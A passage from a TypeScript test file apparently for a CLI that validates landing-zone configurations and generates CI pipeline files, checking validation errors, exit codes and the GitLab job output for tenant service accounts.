      ),
    ).toEqual(expect.arrayContaining([expect.stringMatching(/^tenants\[0\]\.planner: "x" must be a service account email/)]));
    expect(
      problemsOf((c) =>
        Object.assign(c, pipelineConfigInput(2), { pipeline: { ...pipelineConfigInput(2).pipeline, workloadIdentityProvider: "ci" } }),
      ),
    ).toEqual([expect.stringMatching(/^pipeline\.workloadIdentityProvider: "ci" must be a provider name projects\/<project number>/)]);
  });

  it("on the command line: exit 1 with every problem, exit 2 on a wrong target, and writes the file when ready", () => {
    const dir = mkdtempSync(join(tmpdir(), "lz-pipeline-"));
    const bad = join(dir, "bad.yaml");
    writeFileSync(bad, stringify(defaultConfigInput()));
    const refused = runCli("pipeline", "github", "--config", bad);
    expect(refused.code).toBe(1);
    expect(refused.err).toMatch(/3 problems in the landing-zone config:[\s\S]*tenants\[0\]\.deployer: missing/);
    expect(runCli("pipeline", "jenkins", "--config", bad).code).toBe(2);
    const good = join(dir, "good.yaml");
    writeFileSync(good, stringify(pipelineConfigInput(2)));
    const out = join(dir, "ci.yml");
    expect(runCli("pipeline", "gitlab", "--config", good, "--out", out)).toMatchObject({ code: 0, out: `${out}: 4 stack jobs` });
    expect(parse(readFileSync(out, "utf8"))["tenant-ministere-a"].variables.SERVICE_ACCOUNT).toBe(deployerOf("ministere-a"));
  });
});
